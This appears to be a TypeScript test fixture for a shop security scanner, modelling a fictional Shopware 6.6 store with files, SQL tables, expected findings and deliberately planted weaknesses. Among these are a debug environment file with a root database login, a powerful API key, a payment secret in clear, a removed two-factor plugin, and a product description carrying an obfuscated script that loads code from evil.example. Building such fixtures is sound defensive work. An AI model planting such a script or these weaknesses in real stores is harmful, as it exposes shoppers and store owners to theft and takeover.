import { bcrypt, key, type MadeStore, password } from '../store-with-flaws.ts';

function env(secret: string, url: string, mode = 'prod'): string {
  return `# made up\nAPP_ENV=${mode}\nAPP_URL="https://shop.example"\nAPP_SECRET=${secret}\nDATABASE_URL='${url}'\n`;
}

/** Shopware 6.6 by Composer, with a percent-encoded password and the compiled environment left out. */
export const shopware66: MadeStore = {
  name: 'Shopware 6.6',
  engine: 'shopware6',
  files: {
    'bin/console': '#!/usr/bin/env php\n',
    'public/index.php': '<?php\n',
    'composer.json': JSON.stringify({ name: 'shopware/production', require: { 'shopware/core': 'v6.6.7.1' } }),
    'vendor/composer/installed.json': JSON.stringify({
      packages: [
        { name: 'shopware/core', version: 'v6.6.7.1', type: 'library' },
        { name: 'store.shopware.com/acmefilter', version: '4.2.0', type: 'shopware-platform-plugin' },
      ],
    }),
    'vendor/shopware/core/composer.json': '{"name": "shopware/core"}',
    '.env': env('', 'mysql://app:app@localhost/shopware'),
    '.env.local': env(key + key, `mysql://shop:${password}%40%2F@db.internal:3308/shop_de?charset=utf8mb4`),
    'custom/plugins/AcmePay/composer.json': JSON.stringify({
      type: 'shopware-platform-plugin',
      version: 'v1.9.0',
      extra: { 'shopware-plugin-class': 'Acme\\Pay\\AcmePay' },
    }),
    'custom/apps/AcmeChat/manifest.xml': '<manifest><meta><name>AcmeChat</name><version>0.8.1</version></meta></manifest>',
  },
  tables: `
CREATE TABLE migration (class varchar(255), creation_timestamp int);
INSERT INTO migration VALUES ('Shopware\\\\Core\\\\Migration\\\\V6_3\\\\Migration1536232600Language',1536232600),('Shopware\\\\Core\\\\Migration\\\\V6_6\\\\Migration1720603803RemoveDefault',1720603803);
CREATE TABLE sales_channel_domain (id binary(16), url varchar(255));
INSERT INTO sales_channel_domain VALUES (UNHEX('01'),'https://shop.example'),(UNHEX('02'),'default.headless0');
CREATE TABLE system_config (id binary(16), configuration_key varchar(255), configuration_value longtext, sales_channel_id binary(16));
INSERT INTO system_config VALUES (UNHEX('01'),'core.basicInformation.email','{"_value": "shop@shop.example"}',NULL),(UNHEX('02'),'core.loginRegistration.passwordMinLength','{"_value": 8}',NULL);
CREATE TABLE state_machine_state (id binary(16), technical_name varchar(255));
CREATE TABLE product_translation (product_id binary(16), name varchar(255), description mediumtext);
INSERT INTO product_translation VALUES (UNHEX('01'),'Lamp','<p>A lamp.</p>');
CREATE TABLE payment_method (id binary(16), technical_name varchar(255), handler_identifier varchar(255), active tinyint);
INSERT INTO payment_method VALUES (UNHEX('0A'),'payment_invoicepayment','Shopware\\\\Core\\\\Checkout\\\\Payment\\\\InvoicePayment',1),(UNHEX('0B'),'swag_paypal_acdc','Swag\\\\PayPal\\\\ACDCHandler',0);
CREATE TABLE payment_method_translation (payment_method_id binary(16), name varchar(255));
INSERT INTO payment_method_translation VALUES (UNHEX('0A'),'Invoice'),(UNHEX('0B'),'Card');
CREATE TABLE user (id binary(16), username varchar(255), email varchar(255), password varchar(255), active tinyint, admin tinyint, created_at datetime(3));
INSERT INTO user VALUES (UNHEX('0F00FF7F80C2A00000000000000000A1'),'maria.keller','maria@shop.example','${bcrypt}',1,1,'2025-01-05 10:00:00.000'),(UNHEX('A2'),'jonas.vogt','jonas@shop.example','${bcrypt}',1,0,'2025-01-05 10:00:00.000');
CREATE TABLE acl_role (id binary(16), name varchar(255), privileges json);
INSERT INTO acl_role VALUES (UNHEX('B1'),'Orders','[]');
CREATE TABLE acl_user_role (user_id binary(16), acl_role_id binary(16));
INSERT INTO acl_user_role VALUES (UNHEX('A2'),UNHEX('B1'));
CREATE TABLE plugin (id binary(16), name varchar(255), version varchar(255), active tinyint, installed_at datetime);
INSERT INTO plugin VALUES (UNHEX('01'),'AcmePay','1.9.0',1,'2025-01-01'),(UNHEX('02'),'AcmeTwoFactor','2.0.0',1,'2025-01-01');
CREATE TABLE integration (id binary(16), access_key varchar(255), secret_access_key varchar(255), label varchar(255), admin tinyint, last_usage_at datetime NULL, created_at datetime, deleted_at datetime NULL);
`,
  planted: {
    files: { '.env.local': env('changeme', 'mysql://root:@db.internal:3308/shop_de', 'dev') },
    tables: `
INSERT INTO integration VALUES (UNHEX('C1'),'SWIA1','${bcrypt}','Old connector',1,'2026-11-01','2024-01-01',NULL);
INSERT INTO system_config VALUES (UNHEX('03'),'SwagPayPal.settings.clientSecret','{"_value": "${key}"}',NULL);
UPDATE product_translation SET description = '<p>A lamp.</p><script>var a=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvaw==");var s=document.createElement("script");s.src=a;document.head.appendChild(s)</script>';
DELETE FROM plugin WHERE name = 'AcmeTwoFactor';
`,
    checks: ['debug-mode', 'weak-application-key', 'weak-database-login', 'all-powerful-api-key', 'second-factor-missing', 'gateway-secret-in-clear', 'injected-script'],
  },
  expect: {
    version: '6.6.7.1',
    place: 'vendor/composer/installed.json',
    adminPath: 'admin',
    prefix: '',
    database: { host: 'db.internal', port: 3308, user: 'shop', name: 'shop_de' },
    extensions: [['store.shopware.com/acmefilter', '4.2.0'], ['AcmePay', '1.9.0'], ['AcmeChat', '0.8.1'], ['AcmeTwoFactor', '2.0.0']],
    admins: { 'maria.keller': [true, undefined], 'jonas.vogt': [false, undefined] },
    methods: { payment_invoicepayment: true, swag_paypal_acdc: false },
  },
};
